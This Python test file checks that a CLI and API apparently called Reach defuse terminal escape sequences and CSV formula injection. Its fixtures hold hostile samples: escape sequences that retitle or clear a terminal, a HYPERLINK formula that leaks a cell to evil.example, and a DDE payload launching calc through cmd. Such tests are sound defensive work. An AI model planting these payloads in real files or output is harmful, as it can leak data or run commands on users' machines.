"""What Reach prints or writes never acts on the reader's terminal or spreadsheet (issue 12, Output).

Names, failure reasons and callback fields come from customers' files and from anyone holding the webhook
token. The CLI shows their control characters as visible text (`\\x1b`), so an escape sequence cannot
retitle the terminal, clear it or forge lines; JSON output escapes them by itself. Every CSV Reach writes
prefixes a cell that a spreadsheet would run as a formula with `'` (OWASP, CSV injection).
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from reach_cli.main import cli
from shared.inbox import DeadLetter, InboxItem
from shared.models import Contact, ContactStatus, Cycle, CycleState, Message, Schedule
from tests.conftest import API_TOKEN

#: Retitles an xterm, forges a line, rings the bell, clears the screen.
HOSTILE = "\x1b]0;owned\x07Amina\r\nFAKE LINE\x1b[2J\x9b31m\u202eevil"
#: Control characters a terminal acts on; after rendering none may be left but the lines' own "\n".
CONTROLS = {chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)]} - {"\n"} | {"\u202e"}


@pytest.fixture
def hostile(session: Any, redis_client: Any) -> dict[str, Any]:
    """A contact, a cycle, a schedule and a parked callback, each carrying HOSTILE where outsiders write."""
    contact = Contact(
        phone="+254711000001", name=HOSTILE, status=ContactStatus.INACTIVE, last_sms_status="Failed",
        last_failure_reason=HOSTILE, last_hangup_cause=HOSTILE,
    )  # fmt: skip
    session.add(contact)
    session.flush()
    cycle = Cycle(message="hello", state=CycleState.PAUSED, paused_reason=HOSTILE, created_at=datetime.now(UTC))
    session.add(cycle)
    session.flush()
    session.add(Message(contact_id=contact.id, phone=contact.phone, text="t", cycle_id=cycle.id, send_state="sent",
                        status="Failed", failure_reason=HOSTILE))  # fmt: skip
    session.add(Schedule(name=HOSTILE[:100], cron="0 9 * * 1", message=HOSTILE))
    session.commit()
    item = InboxItem(id="dead-1", kind="dlr", received_at=datetime.now(UTC), data={"failureReason": HOSTILE})
    redis_client.rpush("reach:inbox:dead", DeadLetter(item, reason=HOSTILE, parked_at=datetime.now(UTC)).to_json())
    return {"cycle_id": cycle.id}


COMMANDS = [
    ["contacts", "show", "+254711000001"],
    ["contacts", "list"],
    ["cycle", "show", "{cycle_id}"],
    ["cycle", "list"],
    ["schedule", "list"],
    ["inbox", "dead"],
]


@pytest.mark.parametrize("command", COMMANDS, ids=" ".join)
def test_the_cli_shows_control_characters_as_text(hostile: dict[str, Any], command: list[str]) -> None:
    args = [arg.format(**hostile) for arg in command]
    result = CliRunner().invoke(cli, args, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    acting = sorted({c for c in result.stdout if c in CONTROLS})
    assert acting == [], f"raw control characters in the output: {acting!r}"
    assert "\\x1b]0;owned\\x07Amina" in result.stdout  # still readable: the operator sees what was sent
    assert not any(line.lstrip().startswith("FAKE LINE") for line in result.stdout.splitlines())  # no forged line


@pytest.mark.parametrize("command", [["contacts", "show", "+254711000001"], ["inbox", "dead"]], ids=" ".join)
def test_json_output_keeps_the_values_as_they_are(hostile: dict[str, Any], command: list[str]) -> None:
    result = CliRunner().invoke(cli, [*command, "--json"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert not {c for c in result.stdout if c in CONTROLS}  # json escapes them itself
    assert json.dumps(HOSTILE) in result.stdout  # the value itself, escaped the JSON way


# -- CSV injection ------------------------------------------------------------------------------------------

#: Cells a spreadsheet would evaluate, as a customer file might carry them in the phone column.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def written_cells(text: str) -> list[str]:
    return [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]


def test_the_cli_refused_file_defuses_formulas(session: Any, tmp_path: Path) -> None:
    source = tmp_path / "contacts.csv"
    with source.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["phone", "name"])
        writer.writerows([formula, "x"] for formula in FORMULAS)
    result = CliRunner().invoke(cli, ["contacts", "import", str(source)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    cells = written_cells((tmp_path / "contacts.refused.csv").read_text(encoding="utf-8"))
    assert cells == ["'" + formula.replace("\r", "\n") for formula in FORMULAS]


def test_the_apis_refused_file_defuses_formulas(client: Any, session: Any) -> None:
    auth = {"Authorization": f"Bearer {API_TOKEN}"}
    rows = [{"phone": formula} for formula in FORMULAS]
    report = client.post("/api/contacts", json=rows, headers=auth).get_json()
    assert report["refused_count"] == len(FORMULAS)
    download = client.get(report["refused_url"], headers=auth)
    assert download.status_code == 200, download.get_data(as_text=True)
    assert written_cells(download.get_data(as_text=True)) == ["'" + formula for formula in FORMULAS]
